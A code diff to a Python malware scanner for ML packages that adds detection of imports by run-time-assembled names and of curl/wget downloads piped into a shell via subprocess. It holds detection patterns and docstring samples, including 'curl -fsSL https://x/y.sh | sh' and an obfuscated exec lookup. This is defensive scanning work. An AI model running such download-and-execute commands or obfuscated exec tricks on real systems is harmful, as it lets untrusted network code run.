@@ -36,15 +36,16 @@ _CLIENT = re.compile(r"(?i)sess|client|http|sock|conn|s3|bucket|api|request|^s$"
 _MAX_DEPTH = 6
 
 
-def _rules() -> tuple[Rule, Rule, Rule, Rule, Rule, Rule]:
+def _rules() -> tuple[Rule, Rule, Rule, Rule, Rule, Rule, Rule]:
     from mlscan.rulesets.semgrep_rules import rules_by_code
 
     by_code = rules_by_code()
     return (by_code["MLS411"], by_code["MLS412"], by_code["MLS413"], by_code["MLS401"],
-            by_code["MLS402"], by_code["MLS422"])
+            by_code["MLS402"], by_code["MLS422"], by_code["MLS403"])
 
 
-ENV_EXFIL, CRED_EXFIL, DOWNLOAD_EXEC, DECODED_EXEC, BUILTIN_LOOKUP, PRELOAD = _rules()
+(ENV_EXFIL, CRED_EXFIL, DOWNLOAD_EXEC, DECODED_EXEC, BUILTIN_LOOKUP, PRELOAD,
+ HIDDEN_IMPORT) = _rules()
 
 
 class Exfiltration(Check):
@@ -324,6 +325,22 @@ def _is_download(call: ast.Call, ctx: Ctx) -> bool:
         and _CLIENT.search(last_attr(call.func.value) or "") is not None)
 
 
+_PROCESS = ("subprocess.", "os.system", "os.popen", "os.exec", "os.spawn")
+_PIPED = re.compile(r"\b(curl|wget)\b[^|;&]*(\|\s*(sudo\s+)?((ba|z|da)?sh|python[0-9.]*)\b|"
+                    r"(&&|;)\s*(sudo\s+)?((ba|z|da)?sh\s+\S|\./))")
+
+
+def _piped_download(call: ast.Call, ctx: Ctx) -> bool:
+    """`runner.Popen(["sh", "-c", "curl -fsSL https://x/y.sh | sh"])` where `runner` is
+    subprocess under another name (semgrep matches the spelled-out module only)."""
+    for value in [*call.args, *(k.value for k in call.keywords)]:
+        for node in ctx.walk_values(value):
+            text = literal(node)
+            if isinstance(text, str) and _PIPED.search(text):
+                return True
+    return False
+
+
 _PRELOAD_KEYS = frozenset({"LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PYTHONSTARTUP",
                            "LD_LIBRARY_PATH"})
 _START_FILES = re.compile(r"\.pth$|sitecustomize|usercustomize")
@@ -343,10 +360,20 @@ class DownloadExecute(Check):
     decoded data run by an exec the semgrep rules cannot name (`_apply = getattr(builtins,
     bytes((101, 120, 101, 99)).decode())`)."""
 
-    rules = (DOWNLOAD_EXEC, DECODED_EXEC, BUILTIN_LOOKUP, PRELOAD)
+    rules = (DOWNLOAD_EXEC, DECODED_EXEC, BUILTIN_LOOKUP, PRELOAD, HIDDEN_IMPORT)
 
     def visit_Call(self, node: ast.Call, ctx: Ctx) -> None:
         name = ctx.names.call_name(node)
+        if (name in ("__import__", "builtins.__import__", "importlib.import_module")
+                and node.args and getattr(node.args[0], "folded", False)):
+            # (also where semgrep's taint stops: code after `try: ...; return`)
+            ctx.report(HIDDEN_IMPORT, node, f"imports {literal(node.args[0])!r} by a name "
+                       "assembled at run time (chr codes, joined or decoded pieces): the "
+                       "dependency is hidden from readers and scanners")
+        if name.startswith(_PROCESS) and _piped_download(node, ctx):
+            ctx.report(DOWNLOAD_EXEC, node, f"{name}() runs a shell command that pipes a "
+                       "download (curl/wget) into a shell or interpreter: code from the "
+                       "network runs")
         payload: ast.expr | None = None
         if name in _UNPICKLE and node.args:  # cloudpickle.loads(_fetch(url)): code from the net
             payload = node.args[0]
